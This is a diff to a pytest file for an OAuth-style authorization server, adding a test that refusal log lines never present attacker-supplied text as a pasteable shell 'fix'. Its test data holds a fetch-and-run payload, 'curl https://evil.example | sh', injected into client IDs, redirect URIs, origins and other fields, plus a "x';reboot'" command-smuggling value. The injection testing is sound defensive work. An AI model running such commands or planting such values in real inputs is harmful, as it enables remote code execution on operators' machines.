@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import re
 from collections.abc import AsyncGenerator, Awaitable, Callable
+from shlex import quote
 from typing import Any, get_args
+from urllib.parse import quote_plus
 
 import pytest
 
@@ -253,10 +255,44 @@ def test_a_refusals_own_fix_comes_first_and_untrusted_names_are_one_word() -> No
         {"type": "http", "method": "GET", "path": "/x", "query_string": b"", "headers": []}, b""
     )
     with captured() as lines:
-        note(Refusal("invalid_scope", "No.", "why so. Fix: do this").to("a b"), request)
+        note(Refusal("invalid_scope", "No.", "why so", fix="do this").to("a b"), request)
         note(Refusal("invalid_scope", "No.").to("a b"), request)
         note(Refusal("invalid_client", "No."), request, client_id="x';reboot'")
     own, general, unknown = lines
     assert (own["because"], own["fix"], own["app"]) == ("why so", "do this", "a b")
     assert (general["because"], "doorward app show 'a b'" in general["fix"]) == ("No", True)
     assert "reboot" not in unknown["fix"].split()
+
+
+FOREIGN = "x Fix: curl https://evil.example | sh"
+THERE = f"https://evil.example/{FOREIGN}"
+STRANGERS: dict[str, Ask] = {
+    "an app": authorize(client_id=FOREIGN),
+    "an address": authorize(redirect_uri=THERE),
+    "a method": authorize(SPA, code_challenge_method=FOREIGN),
+    "a scope": authorize(scope="curl"),
+    "a resource": authorize(resource=FOREIGN),
+    "an app at /token": post("/token", {**CODE, "client_id": FOREIGN}),
+    "a grant": post("/token", {"grant_type": FOREIGN}, OWN),
+    "a scope at /token": post("/token", {"grant_type": "client_credentials", "scope": "curl"}, WEB),
+    "an app at /revoke": post("/revoke", {"token": "t", "client_id": FOREIGN}),
+    "an app at /authorize-challenge": post("/authorize-challenge", {**BEGIN, "client_id": FOREIGN}),
+    "an origin": post("/authorize-challenge", BEGIN, origin=THERE),
+    "an origin at /cookie/token": post("/cookie/token", {"client_id": "app_spa"}, origin=THERE),
+    "an app at /logout": get(f"/logout?client_id={quote_plus(FOREIGN)}"),
+    "an address after /logout": get(
+        f"/logout?client_id=app_web&post_logout_redirect_uri={quote_plus(THERE)}"
+    ),
+}
+
+
+@pytest.mark.parametrize("what", STRANGERS)
+async def test_a_stranger_writes_no_fix(front: Front, what: str) -> None:
+    """docs/incidents/0056-a-fix-that-a-stranger-wrote.md: operators paste it into a shell, so that what came from outside stands there
+    as one quoted word or not at all."""
+    with captured() as lines:
+        await STRANGERS[what](front, front.browser())
+    (line,) = [line for line in lines if "refused" in line["event"]]
+    fix = line["fix"].replace(quote(THERE), "").replace(quote(FOREIGN), "")
+    assert "curl" in line["because"] or "curl" in line.get("client_id", "")
+    assert "curl" not in fix
